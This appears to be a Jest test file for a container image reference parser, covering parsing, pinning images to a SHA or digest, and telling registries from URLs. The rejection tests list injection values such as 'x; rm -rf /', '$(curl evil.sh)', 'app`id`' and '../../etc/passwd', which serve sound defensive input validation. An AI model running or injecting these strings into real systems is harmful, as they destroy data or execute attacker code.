import { ImageReference } from './image';

const SHA = '439ac5d0c1b2a3f4e5d6c7b8a9f0e1d2c3b4a5f6';
const DIGEST = `sha256:${'0123456789abcdef'.repeat(4)}`;

describe('ImageReference', () => {
  it.each([
    ['example-app', undefined, 'example-app', undefined],
    ['library/nginx:1.27', undefined, 'library/nginx', '1.27'],
    ['localhost:5000/app:dev', 'localhost:5000', 'app', 'dev'],
    [
      'europe-docker.pkg.dev/acme/images/app:latest',
      'europe-docker.pkg.dev',
      'acme/images/app',
      'latest',
    ],
  ])('reads %s', (text, domain, path, tag) => {
    const ref = ImageReference.parse(text)!;
    expect({ domain: ref.domain, path: ref.path, tag: ref.tag }).toEqual({
      domain,
      path,
      tag,
    });
    expect(ref.toString()).toBe(text);
  });

  it.each([
    'x; rm -rf /',
    '$(curl evil.sh)',
    'app`id`',
    'app:tag with space',
    '../../etc/passwd',
    'Example-App',
    'app:',
    '',
    `a/${'b'.repeat(260)}`,
  ])('refuses %j', text => {
    expect(ImageReference.parse(text)).toBeUndefined();
  });

  it.each([
    ['example-app', undefined, `example-app:${SHA}`],
    ['example-app:latest', undefined, `example-app:${SHA}`],
    [
      'example-app',
      'europe-docker.pkg.dev/acme/images',
      `europe-docker.pkg.dev/acme/images/example-app:${SHA}`,
    ],
    [
      'example-app',
      'registry.local:5000',
      `registry.local:5000/example-app:${SHA}`,
    ],
    [
      'ghcr.io/acme/app',
      'europe-docker.pkg.dev/acme/images',
      `ghcr.io/acme/app:${SHA}`,
    ],
    [
      'envoyproxy/envoy:v1.30.1',
      'europe-docker.pkg.dev/acme/images',
      'envoyproxy/envoy:v1.30.1',
    ],
    [`app@${DIGEST}`, 'europe-docker.pkg.dev/acme/images', `app@${DIGEST}`],
    [`app:latest@${DIGEST}`, undefined, `app:latest@${DIGEST}`],
  ])('pins %s (registry %s) as %s', (text, registry, pinned) => {
    expect(ImageReference.parse(text)!.pinnedTo(SHA, registry).toString()).toBe(
      pinned,
    );
  });

  it('tells registries from URLs', () => {
    expect(ImageReference.isRegistry('europe-docker.pkg.dev/acme/images')).toBe(
      true,
    );
    expect(ImageReference.isRegistry('registry.local:5000')).toBe(true);
    expect(ImageReference.isRegistry('https://registry.local')).toBe(false);
    expect(ImageReference.isRegistry('registry.local/x; rm -rf /')).toBe(false);
  });
});
